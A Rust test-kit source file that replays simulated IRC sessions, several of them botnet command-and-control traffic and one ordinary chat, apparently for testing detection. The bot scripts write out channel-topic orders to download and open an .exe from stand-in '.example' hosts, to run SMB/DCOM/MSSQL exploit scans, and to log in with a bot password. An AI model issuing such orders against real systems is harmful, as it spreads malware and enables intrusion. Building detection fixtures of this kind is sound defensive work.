//! IRC (RFC 2812), as bots speak it and as people do. The bots' sessions are those that the seed document S1 prints, line by
//! line where it gives them: a bot that only reports and lists; one that is told by the channel's topic to fetch a program;
//! one that is told to scan; and one whose orders hide in a topic with a star. Names of hosts outside end in `.example`.

use contract::Side;
use model::Interval;
use testkit::dice::Dice;
use testkit::network::Connection;

/// What is said on a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Session {
    /// S1, "the basics": bots report to a channel with a key; no orders come.
    Slaves,
    /// S1, "another agent is downloaded".
    Download,
    /// S1, "scanning the network is ordered".
    Scan,
    /// S1, the example of a detection.
    Wormride,
    /// People talk.
    Chat,
}

impl Session {
    /// Those of bots.
    pub(crate) const BOTS: [Self; 4] = [Self::Slaves, Self::Download, Self::Scan, Self::Wormride];

    const fn script(self) -> &'static str {
        match self {
            Self::Slaves => SLAVES,
            Self::Download => DOWNLOAD,
            Self::Scan => SCAN,
            Self::Wormride => WORMRIDE,
            Self::Chat => CHAT,
        }
    }

    /// What one calls oneself, and by which user's name.
    fn nick(self, dice: &mut Dice) -> (String, String) {
        let mut letters = |count| (0..count).map(|_| char::from(b'a' + dice.below(26) as u8)).collect::<String>();
        let user = letters(6);
        let nick = match self {
            Self::Slaves => format!("{}23", letters(5)),
            Self::Download => format!("Bot|{}", 1000 + dice.below(9000)),
            Self::Scan => format!("JPN|{}", 100_000_000 + dice.below(900_000_000)),
            // Letters of both cases, as "[x]IqRkpiH".
            Self::Wormride => {
                let case = |(at, letter): (usize, char)| if at % 3 == 0 { letter.to_ascii_uppercase() } else { letter };
                format!("[x]{}", letters(7).chars().enumerate().map(case).collect::<String>())
            }
            Self::Chat => (*dice.pick(&["haru", "midori_t", "kenji", "sam_at_work", "Lena"])).to_owned(),
        };
        (nick, user)
    }

    /// Plays the session, then answers the server's pings for so many minutes.
    pub(crate) fn play(self, connection: &mut Connection<'_>, dice: &mut Dice, minutes: u32) {
        let (nick, user) = self.nick(dice);
        let fill = |line: &str| line.replace("{nick}", &nick).replace("{user}", &user) + "\r\n";
        let (mut side, mut text) = (Side::Resp, String::new());
        for line in self.script().lines() {
            let (mark, rest) = line.split_at(line.len().min(2));
            let speaks = match mark {
                "> " => Side::Orig,
                "< " => Side::Resp,
                _ => {
                    connection.say(side, std::mem::take(&mut text).as_bytes());
                    connection.wait(Interval::from_millis(rest.parse::<i64>().unwrap_or(1) * 1000 - 400 + dice.below(800) as i64));
                    continue;
                }
            };
            if speaks != side {
                connection.say(side, std::mem::take(&mut text).as_bytes());
                connection.wait(Interval::from_millis(30 + dice.below(200) as i64));
                side = speaks;
            }
            text.push_str(&fill(rest));
        }
        connection.say(side, text.as_bytes());
        for minute in 0..minutes {
            connection.wait(Interval::from_millis(60_000 - 700 + dice.below(1400) as i64));
            if self == Self::Chat && minute % 3 == 1 {
                let line = *dice.pick(&TALK);
                let whole = if dice.chance(400) {
                    (Side::Orig, format!("PRIVMSG #tea-room :{line}\r\n"))
                } else {
                    (Side::Resp, format!(":yuki!y@tea.example PRIVMSG #tea-room :{line}\r\n"))
                };
                connection.say(whole.0, whole.1.as_bytes());
            }
            if minute % 2 == 1 {
                connection.say(Side::Resp, b"PING :STA\r\n");
                connection.say(Side::Orig, b"PONG :STA\r\n");
            }
        }
    }
}

/// What people say, some of it in words that orders use, too.
const TALK: [&str; 12] = [
    "good morning everybody",
    "did anybody try the new release?",
    "yes, you can download it from their page, take the update for Windows",
    "mine is still scanning the disk",
    "lunch at noon?",
    "the talk yesterday was good",
    "http://www.slow-library.example/catalogue.html has it",
    "thanks!",
    "rain again",
    "who asked about the meeting room",
    "see you tomorrow",
    "the update took an hour",
];

/// Lines of the client begin with `>`, those of the server with `<`; `~ n` waits for about n seconds.
const SLAVES: &str = "\
< :la.cnrdi1.example NOTICE AUTH :*** Looking up your hostname...
< :la.cnrdi1.example NOTICE AUTH :*** Found your hostname (cached)
> NICK {nick}
< :la.cnrdi1.example NOTICE {nick} :*** If you are having problems connecting due to ping timeouts, please type /quote pong A0D0B868 or /raw pong A0D0B868 now.
< PING :A0D0B868
> USER {user} \"ABEPC\" \"idinah.shack-net.example\" :slave
> PONG :A0D0B868
< :la.cnrdi1.example 001 {nick} :Welcome to the CNRD-I1-NIX IRC Network {nick}!{user}@decoy.example
< :la.cnrdi1.example 002 {nick} :Your host is la.cnrdi1.example, running version Unreal3.2.3
< :la.cnrdi1.example 003 {nick} :This server was created Sun Mar 13 21:40:50 2005
< :la.cnrdi1.example 251 {nick} :There are 78 users and 0 invisible on 1 servers
< :la.cnrdi1.example 252 {nick} 1 :operator(s) online
< :la.cnrdi1.example 254 {nick} 9 :channels formed
< :la.cnrdi1.example 255 {nick} :I have 78 clients and 0 servers
< :la.cnrdi1.example 265 {nick} :Current Local Users: 78  Max: 156
< :la.cnrdi1.example 266 {nick} :Current Global Users: 78  Max: 156
< :la.cnrdi1.example 375 {nick} :- la.cnrdi1.example Message of the Day -
< :la.cnrdi1.example 372 {nick} :- 12/9/2005 16:32
< :la.cnrdi1.example 376 {nick} :End of /MOTD command.
< :{nick} MODE {nick} :+w
~ 2
> LIST
< :la.cnrdi1.example 321 {nick} Channel :Users  Name
< :la.cnrdi1.example 322 {nick} #msbots 3 :
< :la.cnrdi1.example 322 {nick} #zgb.slaves3 2 :
< :la.cnrdi1.example 322 {nick} #msbots7 2 :
< :la.cnrdi1.example 322 {nick} #msbots8 70 :
< :la.cnrdi1.example 323 {nick} :End of /LIST
> JOIN #msbots8 slavesofms
< :{nick}!{user}@decoy.example JOIN :#msbots8
< :la.cnrdi1.example 353 {nick} = #msbots8 :{nick} KORVANNIEW2 NEW-F96CA8AF071 PORTABLE2 kbpf79 YASU NBOC1 RMD93001CRPTSY ZIGGYSWORLD RSMITH01 GBSTEZ1NB00K150 NBIS1 EU-GBR06-WXP241
< :la.cnrdi1.example 353 {nick} = #msbots8 :TEKNOBUS2 P0532812 VAIOLAPIF LC8592400 LAPTOPMR EUGENE GLUE-M002 L72XC871 LAPTOP JANNOTEBOOK MIRAGE4 DELL-AB fork
< :la.cnrdi1.example 366 {nick} #msbots8 :End of /NAMES list.
~ 1
> PRIVMSG #msbots8 :Slave {nick} reporting, proxy - 2 , IPv4 address is 10.64.14.72 . .
~ 4
< :TWA01194258!jifsk85@host-12.example QUIT :Connection reset by peer
< :Y1129!lbycq66@p2248-ipad35.example JOIN :#msbots8
< :Y1129!lbycq66@p2248-ipad35.example PRIVMSG #msbots8 :Slave Y1129 reporting, proxy - 2 , IPv4 address is 192.168.123.113 . .
~ 9
< :NB-SANDER-XP!dksqo49@adsl-62.example JOIN :#msbots8
< :NB-SANDER-XP!dksqo49@adsl-62.example PRIVMSG #msbots8 :Slave NB-SANDER-XP reporting, proxy - 2 , IPv4 address is 192.168.2.2 . .
~ 20
< PING :la.cnrdi1.example
> PONG :la.cnrdi1.example
> LUSERS
< :la.cnrdi1.example 251 {nick} :There are 82 users and 0 invisible on 1 servers
< :la.cnrdi1.example 255 {nick} :I have 82 clients and 0 servers
< :la.cnrdi1.example 265 {nick} :Current Local Users: 82  Max: 156
> WHOIS fork
< :la.cnrdi1.example 311 {nick} fork fork microsoft.rulez * :fork
< :la.cnrdi1.example 319 {nick} fork :@#msbots7 @#msbots3 @#msbots2 @#msbots4 @#msbots5 @#zgb.slaves3 @#msbots #msbots6 #msbots8
< :la.cnrdi1.example 313 {nick} fork :is a Network Administrator
< :la.cnrdi1.example 318 {nick} fork :End of /WHOIS list.";

const DOWNLOAD: &str = "\
> NICK {nick}
> USER {user} 0 0 :{nick}
< :STA 001 {nick} :Welcome to the Service server {nick}
< :STA 002 {nick} :Your host is STA, running version 5.5.2653
< :STA 251 {nick} :There are 2417 users and 71 invisible on 1 servers
< :STA 422 {nick} :MOTD File is missing
> USERHOST {nick}
> MODE {nick} +x
> JOIN #server# send.
< :STA 302 {nick} :{nick}=+~{user}@decoy.example
< :STA 501 {nick} :Unknown MODE flag
< :{nick}!~{user}@decoy.example JOIN :#server#
< :STA 332 {nick} #server# :.dl http://www.giza-host.example/htri/sbr.exe aaaananz4.exe 1
< :STA 353 {nick} @ #server# :{nick}
< :STA 366 {nick} #server# :End of /NAMES list.
~ 2
> PRIVMSG #server# :[DOWNLOAD]: Downloading URL: http://www.giza-host.example/htri/sbr.exe to: aaaananz4.exe.
< :STA 404 {nick} #server# :Cannot send to channel
~ 3
> PRIVMSG #server# :[DOWNLOAD]: Downloaded 170.0 KB to aaaananz4.exe @ 170.0 KB/sec.
< :STA 404 {nick} #server# :Cannot send to channel
~ 1
> PRIVMSG #server# :[DOWNLOAD]: Opened: aaaananz4.exe.
< :STA 404 {nick} #server# :Cannot send to channel
~ 30
< PING :STA
> PONG :STA";

const SCAN: &str = "\
> NICK {nick}
> USER {user} 0 0 :{nick}
< :STA 001 {nick} :Welcome to the Service server {nick}
< :STA 251 {nick} :There are 1203 users and 44 invisible on 1 servers
< :STA 422 {nick} :MOTD File is missing
> USERHOST {nick}
> MODE {nick} -i
> JOIN #.to. teamz
< :STA 302 {nick} :{nick}=+~{user}@decoy.example
< :STA 501 {nick} :Unknown MODE flag
< :{nick} MODE {nick} :-i
< :{nick}!~{user}@decoy.example JOIN :#.to.
< :STA 332 {nick} #.to. :.asc asn1smb 300 2 0 -r -s
< :STA 353 {nick} @ #.to. :{nick} @SaBeR
< :STA 366 {nick} #.to. :End of /NAMES list.
~ 2
> PRIVMSG #.to. :[SCAN]: Random Port Scan started on 10.x.x.x:445 with a delay of 2 seconds for 0 minutes using 300 threads.
< :STA 404 {nick} #.to. :Cannot send to channel
~ 40
< PING :STA
> PONG :STA
< :SaBeR!admin@admin.example PRIVMSG #.to. :. PING 1149678059.
~ 8
< :SaBeR!admin@admin.example PRIVMSG #.to. :.k teamall
~ 1
> PRIVMSG #.to. :[MAIN]: Password accepted.
< :STA 404 {nick} #.to. :Cannot send to channel
~ 6
< :SaBeR!admin@admin.example PRIVMSG #.to. :.asc asn1smbnt 300 2 0 -r -s
~ 1
> PRIVMSG #.to. :[SCAN]: Already 301 scanning threads. Too many specified.
< :STA 404 {nick} #.to. :Cannot send to channel
~ 30
< PING :STA
> PONG :STA
< :SaBeR!admin@admin.example PRIVMSG #.to. :.asc dcom135 200 0 0 -r -s
< :SaBeR!admin@admin.example TOPIC #.to. :.asc dcom135 200 0 0 -r -s
~ 20
< PING :STA
> PONG :STA";

const WORMRIDE: &str = "\
> PASS pirate
> USER {user} {user} {user} :SYSTEM
> NICK {nick}
< :hub.41090.example 001 {nick} :pirates, {nick}!{user}@decoy.example
< :hub.41090.example 005 {nick} MAP KNOCK SAFELIST HCN MAXCHANNELS=10 MAXBANS=60 NICKLEN=30 TOPICLEN=307 KICKLEN=307 MAXTARGETS=15 AWAYLEN=307 :are supported by this server
< :hub.41090.example 005 {nick} WALLCHOPS WATCH=128 SILENCE=15 MODES=12 CHANTYPES=# PREFIX=(qaohv)~&@%+ CHANMODES=be,kfL,l,psmntirRcOAQKVGCuzNSMT NETWORK=pirates CASEMAPPING=ascii EXTBAN=~,cqr :are supported by this server
< :{nick} MODE {nick} :+i
> MODE {nick} +xi
> JOIN #hotgirls
< :{nick}!{user}@decoy.example JOIN :#hotgirls
< :hub.41090.example 332 {nick} #hotgirls :* download http://www.home-no.example/chirir0za/wnguards.exe -e -s ] [ * ipscan i.i.i.i mssql2000 -s ][ * wormride -s -t
< :hub.41090.example 333 {nick} #hotgirls luffy 1122366821
< :hub.41090.example 353 {nick} @ #hotgirls :{nick}
< :hub.41090.example 366 {nick} #hotgirls :End of /NAMES list.
> MODE #hotgirls +smntu
< :hub.41090.example 482 {nick} #hotgirls :You're not channel operator
~ 30
< PING :hub.41090.example
> PONG :hub.41090.example";

const CHAT: &str = "\
> NICK {nick}
> USER {user} 0 * :{nick}
< :irc.tea-house.example 001 {nick} :Welcome to the Tea House {nick}!{user}@desk.example
< :irc.tea-house.example 002 {nick} :Your host is irc.tea-house.example, running version ngircd-26
< :irc.tea-house.example 251 {nick} :There are 41 users and 3 services on 1 servers
< :irc.tea-house.example 375 {nick} :- irc.tea-house.example message of the day
< :irc.tea-house.example 372 {nick} :- Be kind to each other.
< :irc.tea-house.example 376 {nick} :End of MOTD command
~ 3
> JOIN #tea-room
< :{nick}!{user}@desk.example JOIN :#tea-room
< :irc.tea-house.example 332 {nick} #tea-room :Talk about anything. Photos of last week: http://www.paper-crane.example/photos
< :irc.tea-house.example 353 {nick} = #tea-room :{nick} @yuki ren clara
< :irc.tea-house.example 366 {nick} #tea-room :End of NAMES list
~ 20
> PRIVMSG #tea-room :hello";
